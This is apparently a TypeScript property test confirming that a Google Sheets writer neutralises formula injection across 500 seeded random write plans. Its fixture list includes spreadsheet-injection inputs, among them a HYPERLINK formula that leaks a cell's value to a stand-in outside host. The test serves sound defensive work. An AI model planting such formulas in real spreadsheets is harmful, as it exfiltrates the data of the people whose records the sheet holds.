/**
 * Property test of planWrite: over random sheets holding dangerous text and random record
 * writes, no cell is written so that Sheets would take it for a formula, and every value comes back as it was.
 * Seeded, so a failure names its seed and reproduces.
 */
import { describe, expect, it } from 'vitest';
import {
  type CellValue,
  type ColumnDef,
  encodeCell,
  findHeader,
  MENTORS_SHEET,
  planWrite,
  type RecordWrite,
  type SheetValue,
} from '../../../shared/sheets';
import { rng } from '../matching/helpers';

const DANGEROUS = [
  '=HYPERLINK("http://x.example/?"&A1;"y")',
  '=1+1',
  '+7 900 123-45-67',
  '-5 дней',
  '- пункт списка',
  '@alice',
  '\tс табуляцией',
  '\rс возвратом каретки',
  "'с апострофом",
];
const SAFE = ['Иванов Иван', 'СОШ № 7', "O'Brien", 'да', 'a=b', '7+1', 'звонить после 15', ''];
const TYPED: CellValue[] = [10, -5, 0, 3.5, true, false, new Date(2025, 8, 1), new Date(1990, 0, 31)];
/** Curator's own columns: never written. */
const CURATOR_HEADERS = ['Заметка куратора', 'Моя формула'];

type Rand = () => number;
const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;

function randomCell(r: Rand): CellValue {
  const x = r();
  return x < 0.4 ? pick(r, DANGEROUS) : x < 0.75 ? pick(r, SAFE) : pick(r, TYPED);
}

/** A value of the column's type for a record, text ones often dangerous. */
function randomField(r: Rand, col: ColumnDef): unknown {
  switch (col.type) {
    case 'integer':
      return pick(r, [0, 3, -5, 12]);
    case 'number':
      return pick(r, [0, 2.5, -1]);
    case 'boolean':
      return r() < 0.5;
    case 'date':
      return pick(r, ['2025-09-01', '1965-03-14']);
    case 'datetime':
      return '2025-09-01T10:00:00.000Z';
    case 'enum':
      return pick(r, Object.keys(col.options ?? { x: 'x' }));
    case 'enumList':
      return [pick(r, Object.keys(col.options ?? { x: 'x' }))];
    case 'list':
      return [pick(r, DANGEROUS), pick(r, SAFE)].filter((s) => s !== '');
    default:
      return r() < 0.5 ? pick(r, DANGEROUS) : pick(r, SAFE);
  }
}

/** What Sheets stores for a value written with setValues: one leading apostrophe marks text and is dropped. */
function stored(v: SheetValue): SheetValue {
  return typeof v === 'string' && v.startsWith("'") ? v.slice(1) : v;
}

/** Same type and value (Dates by time). */
function same(a: unknown, b: unknown): boolean {
  if (a instanceof Date || b instanceof Date)
    return a instanceof Date && b instanceof Date && a.getTime() === b.getTime();
  return a === b;
}

function scenario(seed: number) {
  const r = rng(seed);
  // A header of the dictionary's columns in random order, with curator columns among them.
  const headers = [...MENTORS_SHEET.columns.map((c) => c.header), ...CURATOR_HEADERS]
    .map((h) => ({ h, k: r() }))
    .filter(() => r() < 0.85)
    .sort((a, b) => a.k - b.k)
    .map((x) => x.h);
  if (!headers.includes('ФИО')) headers.unshift('ФИО');
  const rows = 1 + Math.floor(r() * 12);
  const values: CellValue[][] = [headers];
  for (let i = 0; i < rows; i++) values.push(headers.map(() => randomCell(r)));
  const header = findHeader(values, MENTORS_SHEET)!;
  const writes: RecordWrite[] = [];
  const used = new Set<number>();
  const n = 1 + Math.floor(r() * 4);
  for (let i = 0; i < n; i++) {
    const row = r() < 0.2 ? null : 2 + Math.floor(r() * rows);
    if (row !== null && used.has(row)) continue;
    if (row !== null) used.add(row);
    const record: Record<string, unknown> = {};
    for (const col of MENTORS_SHEET.columns) if (r() < 0.6) record[col.field] = randomField(r, col);
    writes.push({ row, record });
  }
  return { values, header, writes };
}

describe('planWrite writes nothing that runs as a formula', () => {
  it('over 500 random write plans: every cell neutralised where it must be, unchanged where it need not', () => {
    let cells = 0;
    let refilled = 0;
    const failures: string[] = [];
    for (let seed = 1; seed <= 500; seed++) {
      const { values, header, writes } = scenario(seed);
      const plan = planWrite(values, header, writes);
      const byRow = new Map<number, Record<string, unknown>>();
      plan.appended.forEach((row, i) => {
        byRow.set(row, writes.filter((w) => w.row === null)[i]!.record);
      });
      for (const w of writes) if (w.row !== null) byRow.set(w.row, w.record);
      const colAt = new Map([...header.columns].map(([field, index]) => [index, field]));
      for (const block of plan.blocks) {
        block.values.forEach((line, i) => {
          line.forEach((written, j) => {
            const row = block.row + i;
            const field = colAt.get(block.column - 1 + j)!;
            const col = MENTORS_SHEET.columns.find((c) => c.field === field)!;
            const record = byRow.get(row);
            const intended =
              record && field in record
                ? encodeCell(record[field], col)
                : (values[row - 1]?.[block.column - 1 + j] ?? '');
            if (!(record && field in record)) refilled++;
            cells++;
            const where = `seed ${seed}, row ${row}, column ${block.column + j} (${field})`;
            // Never written as something Sheets would run.
            if (typeof written === 'string' && /^[=+\-@\t\r]/.test(written))
              failures.push(`${where}: ${JSON.stringify(written)} runs as a formula`);
            // Sheets keeps exactly the intended value: same type, same text.
            if (!same(stored(written), intended))
              failures.push(
                `${where}: stored ${JSON.stringify(stored(written))}, meant ${JSON.stringify(intended)}`,
              );
            // What is not dangerous goes through untouched (numbers, dates and booleans stay typed).
            if ((typeof intended !== 'string' || !/^[=+\-@\t\r']/.test(intended)) && !same(written, intended))
              failures.push(`${where}: wrote ${JSON.stringify(written)} for ${JSON.stringify(intended)}`);
          });
        });
      }
    }
    expect(failures.slice(0, 10)).toEqual([]);
    // The plans did exercise both paths: new values and rows written back as read.
    expect(cells).toBeGreaterThan(2000);
    expect(refilled).toBeGreaterThan(500);
  });
});
